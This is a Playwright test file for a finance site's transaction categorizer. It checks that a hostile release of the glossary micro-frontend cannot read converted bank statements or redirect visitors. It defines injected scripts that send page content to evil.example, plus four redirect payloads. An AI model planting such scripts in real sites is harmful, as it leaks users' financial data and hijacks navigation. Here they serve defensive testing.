import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { publish } from '@artha/platform/publish';
import { hostileRelease } from './alteredRelease.ts';
import { expect, hydrated, test, type OwnSite } from './site.ts';

const CATEGORIZER = '/tools/transaction-categorizer';
const GLOSSARY = '/finterms';
const EVIL = 'https://evil.example';

/**
 * What a hostile release of the glossary does as soon as one of its scripts runs: it leaves a mark, and sends what it
 * can read of the page along in an address.
 */
const readAndSend = `
  globalThis.hostile = true;
  setInterval(() => {
    const heading = document.querySelector('h1')?.textContent ?? '';
    if (heading.includes('transactions')) location.assign('${EVIL}/?' + encodeURIComponent(heading));
  }, 20);`;

const isHostile = (page: Page) => page.evaluate(() => 'hostile' in globalThis);

/** Every request that left for the hostile site. */
function recordSent(page: Page): string[] {
  const sent: string[] = [];
  page.on('request', (request) => {
    if (request.url().startsWith(EVIL)) sent.push(request.url());
  });
  return sent;
}

async function convert(page: Page, site: OwnSite): Promise<void> {
  await page.goto(site.url + CATEGORIZER);
  await hydrated(page);
  await page.getByLabel('Bank').selectOption('HDFC');
  await page.locator('input[type="file"]').setInputFiles(join(import.meta.dirname, '../statements/samples/hdfc-a.pdf'));
  await page.getByRole('button', { name: 'Upload PDF' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(/^50 transactions/);
}

/** The link to the glossary in the menu of tools. */
async function glossaryLink(page: Page) {
  await page.getByRole('banner').getByText('Tools', { exact: true }).first().click();
  return page.getByRole('banner').getByRole('link', { name: /^Glossary/ });
}

test('PF-01 a hostile remote that is pointed at does not run, and never reads a converted statement', async ({
  page,
  ownSite,
}) => {
  await publish(ownSite.quickContext, [await hostileRelease('glossary', readAndSend)]);
  const sent = recordSent(page);
  await convert(page, ownSite);
  const link = await glossaryLink(page);
  const fetched = page.waitForResponse(/\/remotes\/glossary\/.*\.js$/);
  await link.hover();
  await (await fetched).finished();
  expect(await isHostile(page)).toBe(false);

  // Somebody goes there, where it runs, and comes back.
  await link.click();
  await page.waitForURL(`**${GLOSSARY}`);
  await hydrated(page);
  expect(await isHostile(page)).toBe(true);
  await page.goBack();
  await expect(page).toHaveURL(new RegExp(`${CATEGORIZER}$`));
  await hydrated(page);
  expect(await isHostile(page)).toBe(false);
  expect(sent).toEqual([]);
});

test('PF-01 a hostile remote ends with its document where an isolated page begins', async ({ page, ownSite }) => {
  await publish(ownSite.quickContext, [await hostileRelease('glossary', readAndSend)]);
  const sent = recordSent(page);
  await page.goto(ownSite.url + GLOSSARY);
  await hydrated(page);
  expect(await isHostile(page)).toBe(true);
  await convert(page, ownSite);
  expect(await isHostile(page)).toBe(false);
  expect(sent).toEqual([]);
});

const redirects = {
  'an address that is assigned': `location.assign('${EVIL}/?a')`,
  'an address that is replaced': `location.replace('${EVIL}/?b')`,
  'a link that is clicked by a script': `Object.assign(document.createElement('a'), { href: '${EVIL}/?c' }).click()`,
  'a window of its own name': `open('${EVIL}/?d', '_self')`,
};

for (const [what, code] of Object.entries(redirects)) {
  test(`PF-01 a hostile remote does not lead visitors away by ${what}, and the health page names it`, async ({
    page,
    ownSite,
  }) => {
    const sent = recordSent(page);
    await publish(ownSite.quickContext, [await hostileRelease('glossary', `globalThis.hostile = true; ${code};`)]);
    await page.goto(ownSite.url + GLOSSARY);
    await hydrated(page);
    expect(await isHostile(page)).toBe(true);
    await expect.poll(() => page.evaluate(() => sessionStorage.getItem('artha-failures') ?? '')).toContain('AR-109');
    expect(sent).toEqual([]);
    await expect(page).toHaveURL(new RegExp(`${GLOSSARY}$`));
    await page.evaluate(() => {
      location.assign('/~health');
    });
    await expect(page.getByRole('region', { name: 'Failures in this tab' })).toContainText('glossary');
  });
}
